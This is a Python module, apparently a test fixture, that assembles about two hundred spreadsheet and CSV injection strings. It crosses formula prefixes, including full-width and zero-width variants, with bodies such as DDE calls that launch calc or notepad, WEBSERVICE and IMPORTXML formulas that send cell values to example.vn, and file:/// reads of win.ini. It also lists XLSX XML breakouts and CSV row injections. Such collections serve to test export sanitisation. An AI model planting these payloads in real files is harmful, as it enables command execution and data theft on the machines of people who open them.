"""Two hundred texts that want to be formulas, links, fields or markup once a spreadsheet opens them."""

from __future__ import annotations

from typing import Final

_STARTS: Final = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    "\x00=",
    " =",
    "'=",
    "''=",
    "＝",
    "＋",
    "－",
    "＠",
    "\ufeff=",
    "\u200b=",
)
_BODIES: Final = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://example.vn","bấm vào đây")',
    'IMPORTXML("http://example.vn/"&A1,"//a")',
    "SUM(A1:A9)*cmd|'/C notepad'!'A1'",
    'WEBSERVICE("http://example.vn/"&B2)',
    'DDE("cmd";"/C calc";"x")',
    "'file:///c:/windows/win.ini'#$Sheet1.A1",
    'RTD("mã.độc",,"")',
    "2+5+cmd|' /C calc'!A0",
    'INDIRECT("A"&ROW())',
)
_MARKUP: Final = (
    '<r></r></is></c><c r="Z9"><f>1+1</f><v>2</v></c><c t="inlineStr"><is><r><t>x</t></r>',
    "<r><t>đậm</t></r>",
    "</t></is></c></row></sheetData><sheetData><row><c><f>1+1</f></c></row></sheetData>",
    "]]><f>1+1</f><![CDATA[",
    "&lt;f&gt;1+1&lt;/f&gt;",
    '"><f>1+1</f><c t="',
    "http://example.vn/theo-doi",
    "mailto:ai@example.vn",
    "internal:Sheet2!A1",
    "external:c:\\tệp.xlsx",
    "ftp://example.vn",
    "_x003D_1+1",
    "_x0000_",
    "{=1+1}",
    "#REF!",
    '"";=1+1',
    "a,b\r\n=1+1,c",
    'nói "thế này", rồi thôi',
    "'",
    "''",
    "'- gạch đầu dòng",
    "- gạch đầu dòng\n- nữa",
    "0912",
    "1e5",
    "TRUE",
    "12/03/2026",
)
PAYLOADS: Final = (*(start + body for start in _STARTS for body in _BODIES), *_MARKUP)
